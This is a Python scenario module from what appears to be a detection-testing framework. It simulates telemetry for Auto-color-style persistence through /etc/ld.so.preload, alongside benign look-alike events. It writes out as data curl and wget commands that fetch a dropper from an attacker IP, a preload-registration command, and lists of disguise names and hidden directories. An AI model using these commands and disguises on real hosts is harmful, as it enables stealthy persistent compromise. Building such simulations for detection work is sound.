"""Dynamic-linker preload persistence (T1574.006), as the Auto-color backdoor does it: a
root operator runs a dropper that copies itself to a hidden place, starts the copy, and
the implant installs a shared library and names it in /etc/ld.so.preload, so that every
dynamically linked program loads it. The library restores its entry from inside whatever
process loads it (a cron job, an SSH login, the Azure agent) when it finds it changed.

Per instance: the host and the administrator account used to get in; how the dropper
arrives (curl, wget, an scp upload) and its name and directory; where the implant hides
(a directory under /var/log imitating Ubuntu's own, a hidden directory under /var/tmp or
the system library directories) and its name (imitations of desktop and system helpers);
the library's directory and name (imitations of system libraries); who writes the
registration (the implant itself, an echo redirection, tee) and whether the file is
created or rewritten; which processes rewrite it later, how often and when.

Look-alikes: the snoopy command logger's package registering its library in
/etc/ld.so.preload; Ansible preloading jemalloc on database and application servers;
vendor library paths added under /etc/ld.so.conf.d followed by ldconfig; shared
libraries installed into the library directories by packages and administrators.
"""

from __future__ import annotations

from pytest_ctirealm.telemetry.campaign import Instance
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.linux import Process
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import (
    SH,
    LookalikeFamily,
    ansible,
    register_lookalikes,
    root_session,
)

CAMPAIGN = "auto_color_preload"
PRELOAD = "/etc/ld.so.preload"

_DROPPER_DIRS = ("/tmp", "/dev/shm", "/var/tmp", "/root")
_DROPPER_NAMES = (
    "log-collector",
    "app-update",
    "disk-check",
    "sys-report",
    "pkg-helper",
    "net-diag",
    "perf-agent",
    "metrics-setup",
    "install-tools",
    "health-probe",
)
_IMPLANT_NAMES = (
    "colord-session",
    "dbus-notifier",
    "gvfs-helper",
    "polkit-agent",
    "snapd-worker",
    "udisks-monitor",
    "xdg-refresh",
    "tracker-miner",
    "pipewire-sync",
    "whoopsie-upload",
    "packagekit-helper",
    "at-spi-bus",
)
#: Directories that look like Ubuntu's own under /var/log, and hidden ones elsewhere.
_LOG_DIRS = (
    "/var/log/dist-upgrade/.cache",
    "/var/log/installer/media-info",
    "/var/log/landscape/.run",
    "/var/log/unattended-upgrades/.state",
    "/var/log/journal/.remote",
    "/var/log/sysstat/.sa",
)
_HIDDEN_DIRS = (
    "/var/tmp/.font-unix",
    "/var/tmp/.systemd-coredump",
    "/usr/lib/.build-id",
    "/usr/lib/x86_64-linux-gnu/.hwcaps",
    "/usr/share/.mime-cache",
)
_LIBRARY_DIRS = ("/usr/lib/x86_64-linux-gnu", "/lib/x86_64-linux-gnu", "/usr/local/lib", "/usr/lib")
_LIBRARY_STEMS = (
    "libkeyutils-ext",
    "libnss_cache",
    "libaudit-common",
    "libselinux-utils",
    "libpcre2-posix",
    "libgcrypt-util",
    "libsystemd-login",
    "libdbus-glib",
    "libexpat-util",
    "libuuid-util",
    "libnetlink",
    "libcap-ng-util",
)
_LIBRARY_VERSIONS = (".so.1", ".so.2", ".so.0.9", ".so.3", ".so.1.2", ".so.4")


def _fetch_dropper(t: Timeline, instance: Instance, root: Process, admin: str, path: str) -> None:
    how = instance.values["delivery"]
    size = instance.between(180_000, 420_000)
    if how == "scp-upload":
        sshd = t.run("access", t.daemon("sshd"), "/usr/sbin/sshd", f"sshd: {admin} [priv]", "root")
        scp = t.run("access", sshd, "/usr/bin/scp", f"scp -t {path}", admin, after=(1, 4))
        t.file("access", scp, "FileCreated", path, size=size)
    else:
        ip = instance.attacker_ip("server_ip")
        port = instance.port("server_port", (80, 443, 8080, 8443, 8000, 9443))
        url = f"http://{ip}:{port}/{instance.hex('resource', 10)}"
        if how == "curl-o":
            command, image = f"curl -fsSLk {url} -o {path}", "/usr/bin/curl"
        else:
            command, image = f"wget -q --no-check-certificate {url} -O {path}", "/usr/bin/wget"
        fetch = t.run("access", root, image, command, after=(10, 60))
        t.file("access", fetch, "FileCreated", path, size=size)
    t.run("access", root, "/usr/bin/chmod", f"chmod +x {path}", after=(2, 15))


def _register(
    t: Timeline, instance: Instance, root: Process, implant: Process, library: str
) -> None:
    """The first registration: the implant writes it, or the operator does by hand."""
    writer = instance.pick("writer", ("implant", "echo-redirect", "tee"))
    action = instance.pick("preload_action", ("FileCreated", "FileModified"))
    append = action == "FileModified"
    size = len(library) + 1
    if writer == "implant":
        actor = implant
    elif writer == "echo-redirect":
        actor = t.run(
            "preload_command",
            root,
            SH,
            f"sh -c echo {library} {'>>' if append else '>'} {PRELOAD}",
            after=(5, 40),
        )
    else:
        actor = t.run(
            "preload_command",
            root,
            "/usr/bin/tee",
            f"tee {'-a ' if append else ''}{PRELOAD}",
            after=(5, 40),
        )
    t.file("preload_written", actor, action, PRELOAD, size=size)
    # The operator checks that programs now load the library.
    probe = instance.pick("probe", ("/usr/bin/ls", "/usr/bin/id", "/usr/sbin/sshd", "/bin/bash"))
    t.run("preload_command", root, "/usr/bin/ldd", f"ldd {probe}", after=(5, 30))


def _rewrites(t: Timeline, instance: Instance, library: str, implant_path: str) -> None:
    """Processes that load the library find the entry changed and write it back."""
    kinds = [
        instance.rng.choice(("cron_job", "ssh_login", "waagent"))
        for _ in range(instance.between(1, 3))
    ]
    instance.keep("rewriters", kinds)
    for kind in kinds:
        t.wait(8 * 60, 50 * 60)
        if kind == "cron_job":
            # sysstat's collector, on its ten-minute mark.
            minutes = t.now.minute % 10 * 60 + t.now.second + t.now.microsecond / 1e6
            t.wait(600 - minutes + instance.rng.uniform(0, 0.5))
            actor = t.run(
                "library_loaded",
                t.daemon("cron"),
                SH,
                "/bin/sh -c command -v debian-sa1 > /dev/null && debian-sa1 1 1",
                "root",
            )
        elif kind == "ssh_login":
            user = instance.rng.choice(t.state.host.admin_users)
            actor = t.run(
                "library_loaded", t.daemon("sshd"), "/usr/sbin/sshd", f"sshd: {user} [priv]", "root"
            )
        else:
            actor = t.daemon("exthandlers")
            # The agent's periodic probe, in the process that now carries the library.
            t.run(
                "library_loaded",
                actor,
                "/usr/sbin/iptables",
                "iptables -w -t security -L OUTPUT --zero OUTPUT -nxv",
            )
        t.file("preload_written", actor, "FileModified", PRELOAD, size=len(library) + 1)
        if instance.chance(0.5):
            # ... and starts the implant again if it is not running.
            t.run("library_loaded", actor, implant_path, implant_path, "root", cwd="/")


@scenario(
    CAMPAIGN,
    "linux",
    (
        "access",
        "implant_exec",
        "preload_library",
        "preload_command",
        "preload_written",
        "library_loaded",
    ),
)
def auto_color_preload(ctx: SimContext) -> Stages:
    """Drop, install, register, and let the library keep its registration."""
    instance = Instance(ctx, CAMPAIGN)
    host = instance.linux_host("host")
    admin = instance.pick("account", host.admin_users)
    t = Timeline(ctx, CAMPAIGN, host, incident_start(ctx, "autocolor", (0, 18)))
    root = root_session(t, admin)
    # An upload as the administrator can only go somewhere world-writable.
    delivery = instance.pick("delivery", ("curl-o", "wget-O", "scp-upload"))
    directory = instance.pick(
        "dropper_dir", _DROPPER_DIRS[:3] if delivery == "scp-upload" else _DROPPER_DIRS
    )
    dropper_path = f"{directory}/{instance.pick('dropper', _DROPPER_NAMES)}"
    _fetch_dropper(t, instance, root, admin, dropper_path)
    dropper = t.run(
        "implant_exec",
        root,
        dropper_path,
        f"./{dropper_path.rsplit('/', 1)[1]}",
        after=(2, 30),
        cwd=directory,
    )
    home = instance.pick("implant_dir", (*_LOG_DIRS, *_HIDDEN_DIRS))
    implant_path = f"{home}/{instance.pick('implant', _IMPLANT_NAMES)}"
    t.file(
        "implant_exec",
        dropper,
        "FileCreated",
        implant_path,
        size=instance.between(180_000, 420_000),
    )
    implant = t.run("implant_exec", dropper, implant_path, implant_path, after=(1, 3), cwd="/")
    library = "/".join(
        (
            instance.pick("library_dir", _LIBRARY_DIRS),
            instance.name_like("library", _LIBRARY_STEMS, _LIBRARY_VERSIONS),
        )
    )
    t.file(
        "preload_library", implant, "FileCreated", library, size=instance.between(40_000, 90_000)
    )
    _register(t, instance, root, implant, library)
    _rewrites(t, instance, library, implant_path)
    return t.stages


# -- look-alikes ---------------------------------------------------------------------------


def _snoopy_logger(ctx: SimContext, family: LookalikeFamily) -> None:
    """The security team installs (or reconfigures) the snoopy command logger, whose
    maintainer script registers libsnoopy in /etc/ld.so.preload."""
    stage = family.name
    for t, root in family.root_sessions(family.moments(1, 2)):
        reconfigure = t.rng.random() < 0.3
        command = "dpkg-reconfigure snoopy" if reconfigure else "apt-get install -y snoopy"
        manager = t.run(
            stage,
            root,
            "/usr/sbin/dpkg-reconfigure" if reconfigure else "/usr/bin/apt-get",
            command,
        )
        if reconfigure:
            dpkg = manager
        else:
            dpkg = t.run(
                stage,
                manager,
                "/usr/bin/dpkg",
                "/usr/bin/dpkg --status-fd 35 --configure snoopy:amd64",
                after=(3, 10),
            )
            t.file(stage, dpkg, "FileCreated", "/usr/lib/x86_64-linux-gnu/libsnoopy.so.0.0.0")
            t.file(stage, dpkg, "FileCreated", "/etc/snoopy.ini")
        postinst = t.run(
            stage, dpkg, SH, "/bin/sh /var/lib/dpkg/info/snoopy.postinst configure 2.4.15-1"
        )
        action = "FileModified" if reconfigure or t.rng.random() < 0.3 else "FileCreated"
        t.file(stage, postinst, action, PRELOAD, size=41)
        ldconfig = t.run(stage, postinst, "/usr/sbin/ldconfig", "/sbin/ldconfig")
        t.file(stage, ldconfig, "FileModified", "/etc/ld.so.cache")


def _jemalloc_tuning(ctx: SimContext, family: LookalikeFamily) -> None:
    """Ansible preloads jemalloc on the database and application servers (memory
    fragmentation): it installs the package and writes /etc/ld.so.preload atomically."""
    stage = family.name
    for t, root in family.root_sessions(
        family.moments(1, 1, roles=("db", "app")), user="azureuser"
    ):
        apt = ansible(t, root, stage, "apt")
        get = t.run(stage, apt, "/usr/bin/apt-get", "/usr/bin/apt-get -y install libjemalloc2")
        dpkg = t.run(
            stage, get, "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 21 --unpack libjemalloc2"
        )
        t.file(stage, dpkg, "FileCreated", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2")
        lineinfile = ansible(t, root, stage, "lineinfile")
        temp = f"/etc/.ansible_tmp{t.rng.getrandbits(32):08x}ld.so.preload"
        t.file(stage, lineinfile, "FileCreated", temp, size=45)
        t.file(stage, lineinfile, "FileRenamed", PRELOAD, previous=temp, size=45)
        t.run(
            stage,
            root,
            "/usr/bin/systemctl",
            t.rng.choice(("systemctl restart postgresql", "systemctl restart app-worker")),
        )


_VENDOR_LIBS = (
    ("oracle-instantclient.conf", "/opt/oracle/instantclient_21_12"),
    ("azure-iot-sdk.conf", "/opt/azure-iot/lib"),
    ("mssql-odbc.conf", "/opt/microsoft/msodbcsql18/lib64"),
    ("libpq-local.conf", "/usr/local/pgsql/lib"),
    ("grpc.conf", "/opt/grpc/lib"),
    ("onnxruntime.conf", "/opt/onnxruntime/lib"),
)


def _ld_conf_snippets(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators add a vendor library directory to the linker's search path and
    rebuild the cache."""
    stage = family.name
    for t, root in family.root_sessions(family.moments(1, 2)):
        name, directory = t.rng.choice(_VENDOR_LIBS)
        path = f"/etc/ld.so.conf.d/{name}"
        if t.rng.random() < 0.5:
            writer = t.run(stage, root, "/usr/bin/tee", f"tee {path}")
        else:
            writer = t.run(stage, root, SH, f"sh -c echo {directory} > {path}")
        t.file(stage, writer, "FileCreated", path, size=len(directory) + 1)
        ldconfig = t.run(stage, root, "/usr/sbin/ldconfig", "ldconfig", after=(5, 40))
        t.file(stage, ldconfig, "FileCreated", "/etc/ld.so.cache~")
        t.file(stage, ldconfig, "FileRenamed", "/etc/ld.so.cache", previous="/etc/ld.so.cache~")


_BUILT_LIBS = (
    ("libcontoso-pdf.so.1", "/usr/local/lib"),
    ("libpg_query.so.15", "/usr/local/lib"),
    ("libwkhtmltox.so.0", "/usr/local/lib"),
    ("libvips.so.42", "/usr/local/lib"),
    ("libsodium.so.23", "/usr/lib/x86_64-linux-gnu"),
    ("libzstd.so.1", "/usr/lib/x86_64-linux-gnu"),
)


def _library_installs(ctx: SimContext, family: LookalikeFamily) -> None:
    """Shared libraries copied into the library directories: make install, a copy from
    a vendor tarball, a package upgrade."""
    stage = family.name
    for t, root in family.root_sessions(family.moments(2, 3)):
        name, directory = t.rng.choice(_BUILT_LIBS)
        how = t.rng.random()
        if how < 0.4:
            writer = t.run(
                stage, root, "/usr/bin/install", f"install -m 0755 build/lib/{name} {directory}/"
            )
        elif how < 0.7:
            writer = t.run(stage, root, "/usr/bin/cp", f"cp -a /opt/vendor/lib/{name} {directory}/")
        else:
            get = t.run(
                stage, root, "/usr/bin/apt-get", "apt-get install -y --only-upgrade libzstd1"
            )
            writer = t.run(
                stage, get, "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 35 --unpack libzstd1"
            )
            name, directory = "libzstd.so.1.4.8", "/usr/lib/x86_64-linux-gnu"
        t.file(stage, writer, "FileCreated", f"{directory}/{name}")
        t.run(stage, root, "/usr/sbin/ldconfig", "ldconfig", after=(2, 20))


_FAMILIES = {
    "snoopy_logger": _snoopy_logger,
    "jemalloc_tuning": _jemalloc_tuning,
    "ld_conf_snippets": _ld_conf_snippets,
    "library_installs": _library_installs,
}

register_lookalikes(CAMPAIGN, _FAMILIES)
